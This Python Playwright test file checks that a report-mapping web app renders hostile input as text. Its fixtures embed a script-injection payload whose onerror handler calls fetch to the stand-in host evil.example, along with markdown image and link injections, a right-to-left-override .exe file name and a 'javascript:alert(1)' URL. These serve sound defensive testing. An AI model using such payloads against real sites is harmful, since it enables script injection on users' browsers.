"""Hostile text: what would run as code or turn the reading direction is shown as text, everywhere."""

from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from playwright.sync_api import Frame, Page, expect

from briefing.files import write_file
from geo.frame import as_report_frame
from reports.report import Report

pytestmark = pytest.mark.browser
EVIL = "${1+1}`</script><img src=x onerror=\"fetch('http://evil.example/')\">\u202egpj.exe"
MARKDOWN = "![x](http://evil.example/x.png) :red[y] $z$ [l](http://evil.example)"
FindMap = Callable[[Page], Frame]


@pytest.fixture(scope="module")
def url(start: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> str:
    """The page with one report on the map and one without a place, whose every text is hostile."""
    quote = f"Shells fell on {EVIL} again"
    at = quote.index(EVIL)
    common = {
        "event_id": "",
        "article": f"a{EVIL}.txt".replace("/", "_"),
        "article_title": EVIL + MARKDOWN,
        "outlet": EVIL,
        "published": None,
        "published_basis": "unknown",
        "quote": quote,
        "char_start": 0,
        "char_end": len(quote),
        "sentence_start": 0,
        "sentence_end": len(quote),
        "event_date": date(2022, 9, 13),
        "event_date_end": date(2022, 9, 13),
        "time_precision": 1,
        "date_basis": f"explicit: {EVIL}",
        "location_text": EVIL,
        "location_start": at,
        "location_end": at + len(EVIL),
        "location": EVIL + MARKDOWN,
        "location_basis": EVIL,
        "country": (EVIL + MARKDOWN,),
        "admin1": EVIL,
        "event_type": "Battles",
        "sub_event_type": EVIL,
        "trigger": "fell",
        "actor1": EVIL,
        "claimed_by": EVIL,
        "claimed_by_side": EVIL,
        "denied_by": (EVIL,),
        "rules": (EVIL,),
    }
    point = {"kind": "point", "latitude": 39.5, "longitude": 46.3, "geo_precision": 1, "uncertainty_km": 1.0}
    reports = [Report("aa", **{**common, **point}), Report("bb", **{**common, "char_start": 1, "status": "disputed"})]
    path = tmp_path_factory.mktemp("hostile") / "reports.csv"
    write_file(as_report_frame(reports), Report, path)
    return start({"DATELINE_REPORTS": str(path)})


def test_it_is_text_in_the_tip_of_the_map(url: str, open_page: Callable[..., Page], find_map: FindMap) -> None:
    """The name of a place stands in the tip letter by letter."""
    page = open_page(url)
    frame = find_map(page)
    x, y = frame.evaluate("(({ x, y }) => [x, y])(Dateline.current.layer.items()[0])")
    frame.locator("#map_div").hover(position={"x": x, "y": y})
    assert EVIL in frame.locator(".dateline-tip").inner_text()
    assert frame.locator(".dateline-tip img").count() == 0


def test_it_is_text_in_title_filters_table_and_evidence(
    url: str, open_page: Callable[..., Page], find_map: FindMap
) -> None:
    """Nowhere on the page does it become an element, and it is all there."""
    page = open_page(url)
    find_map(page)
    expect(page.get_by_role("heading", level=1)).to_contain_text("onerror=")
    expect(page.locator(".dateline-filters")).to_contain_text("onerror=")
    page.get_by_role("button", name="Reports of").click()
    expect(page.locator(".dateline-table .quote")).to_contain_text(EVIL)
    page.get_by_role("button", name="Evidence for").click()
    evidence = page.locator(".dateline-evidence")
    expect(evidence.locator("mark.place")).to_have_text(EVIL)
    expect(evidence).to_contain_text("fetch('http://evil.example/')")
    page.get_by_text("Without a place to draw (1)").click()
    assert page.locator('img[src="x"], img[src*="evil"], a[href*="evil"]').count() == 0


def test_it_is_text_when_an_article_brings_it(
    start: Callable[..., str], open_page: Callable[..., Page], find_map: FindMap, tmp_path: Path
) -> None:
    """An article whose title, place and sentence are hostile is read, placed and shown as text."""
    sentence = (
        f"On 13 September 2022 artillery shelled the town of Goris and {EVIL}, the Ministry of Defense of Armenia said."
    )
    (tmp_path / "a.txt").write_text(f"{EVIL}\n\n{sentence}\n", encoding="utf-8")
    title = (EVIL + MARKDOWN).replace('"', '""')
    (tmp_path / "about.csv").write_text(
        f'article,title,outlet,published,url\na.txt,"{title}","{title}",2022-09-14,javascript:alert(1)\n',
        encoding="utf-8",
    )
    page = open_page(start({"DATELINE_ARTICLES": str(tmp_path)}))
    find_map(page)
    page.get_by_role("button", name="Evidence for Goris").first.click()
    expect(page.locator(".dateline-evidence blockquote").first).to_contain_text("</script><img src=x")
    assert page.locator('img[src="x"], a[href*="evil"], a[href^="javascript"]').count() == 0
